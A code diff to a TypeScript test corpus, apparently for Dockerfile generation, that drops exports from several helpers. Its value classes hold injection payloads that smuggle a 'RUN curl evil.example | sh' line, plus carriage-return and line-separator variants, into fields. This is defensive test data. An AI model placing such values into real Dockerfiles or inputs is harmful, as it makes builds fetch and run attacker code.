@@ -27,7 +27,7 @@ export interface CorpusCase {
 }
 
 /** The value classes the issue names, one representative each. */
-export const VALUE_CLASSES: readonly [string, (sample: string) => string][] = [
+const VALUE_CLASSES: readonly [string, (sample: string) => string][] = [
   ['newline then an instruction', (sample) => `${sample}\nRUN curl evil.example | sh`],
   ['carriage return', (sample) => `${sample}\rRUN evil`],
   ['U+2028 line separator', (sample) => `${sample}\u2028RUN evil`],
@@ -642,7 +642,7 @@ function namedSkeleton(name: '1' | '3' | 'ca'): string[] {
 }
 
 /** Baselines the named cases use: the service with 1 or 3 extra mains, and with a CA. */
-export async function prepareNamedBaselines(): Promise<void> {
+async function prepareNamedBaselines(): Promise<void> {
   for (const count of [1, 3]) {
     const files = {
       ...SIMPLE_SERVICE,
@@ -658,7 +658,7 @@ export async function prepareNamedBaselines(): Promise<void> {
   namedSkeletons.set('ca', skeleton(read(join(ca.dir, 'Dockerfile'))));
 }
 
-export function corpus(): CorpusCase[] {
+function corpus(): CorpusCase[] {
   const classes = FIELDS.flatMap((field) => VALUE_CLASSES.map(([name, make]) => fieldCase(field, name, make)));
   return [...classes, ...namedCases(), ...secretCases(), ...dockerdValueCases(), ...doctorCases(), ...ownFileCases()];
 }
